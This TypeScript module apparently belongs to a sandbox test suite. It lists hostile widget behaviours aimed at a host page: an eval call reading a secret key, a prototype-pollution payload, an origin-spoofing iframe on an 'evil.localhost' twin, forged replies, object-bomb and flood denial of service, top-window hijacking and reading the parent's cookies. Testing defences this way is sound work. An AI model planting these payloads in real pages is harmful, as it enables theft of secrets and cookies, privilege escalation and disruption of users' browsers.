import type { AttackName } from '@quake-desk/contracts/hostile';
import type { Door } from './door.ts';

/** For as long as somebody who is let in needs to answer, and then some. */
const patienceMs = 1_200;
const readKey = "document.querySelector('[data-stake=key]').textContent";

/** 26 objects, and 2^25 ways through them. */
function makeBomb(): unknown {
  let graph: unknown = [1];
  for (let level = 0; level < 25; level++) graph = [graph, graph];
  return graph;
}

/** Whatever comes in on a port, in words; silence, too. */
function listen(port: MessagePort): Promise<string> {
  return new Promise((resolve) => {
    port.onmessage = ({ data }) => resolve(`heard ${JSON.stringify(data)}`);
    setTimeout(() => resolve('heard nothing'), patienceMs);
  });
}

/** This server answers under every name; this one begins with the name that pages expect. */
function twinOf(origin: string): string {
  const url = new URL(origin);
  url.hostname = `${url.hostname}.evil.localhost`;
  return url.origin;
}

/** Embeds the accomplice, who greets the page around this one as if it were the widget. */
function sendTwin(greeting: unknown): Promise<string> {
  const twin = twinOf(location.origin);
  const frame = document.createElement('iframe');
  frame.title = 'accomplice';
  frame.src = `${twin}/twin.html`;
  document.body.append(frame);
  return new Promise((resolve) => {
    const hear = ({ data, source, origin }: MessageEvent<{ heard?: string }>): void => {
      if (source !== frame.contentWindow || origin !== twin) return;
      if (data.heard === undefined) return frame.contentWindow?.postMessage({ greeting }, twin);
      removeEventListener('message', hear);
      frame.remove();
      resolve(data.heard);
    };
    addEventListener('message', hear);
  });
}

export const attacks: Readonly<Record<AttackName, (door: Door) => Promise<string> | string>> = {
  honest: (door) => door.call('note', 'I am harmless'),
  pay: (door) => door.call('pay', 900),
  names: (door) => door.call('eval', readKey),
  input: (door) => door.call('note', JSON.parse('{"__proto__":{"isAdmin":true}}')),
  twin: (door) => sendTwin(door.greeting),
  forge: async (door) => {
    door.forge('yes');
    return `answered; ${await door.call('note', 'was I believed?')}`;
  },
  port: (door) => {
    const { port1, port2 } = new MessageChannel();
    door.smuggle(port2);
    return listen(port1);
  },
  bomb: (door) => door.call('note', makeBomb()),
  flood: (door) => {
    door.callOften('wait', 100_000);
    return door.call('note', 'are you still there?');
  },
  silent: () => 'I do not answer any more',
  spin: () => {
    for (const until = performance.now() + 4_000; performance.now() < until; );
    return 'I hung for 4 s';
  },
  top: async (door) => {
    const mine = `${location.origin}/taken.html`;
    let refusal = '';
    try {
      if (top !== null) top.location.href = mine;
    } catch (error) {
      refusal = String(error);
    }
    return `${await door.call('go', mine)}; ${refusal}`;
  },
  dom: () => parent.document.cookie,
};
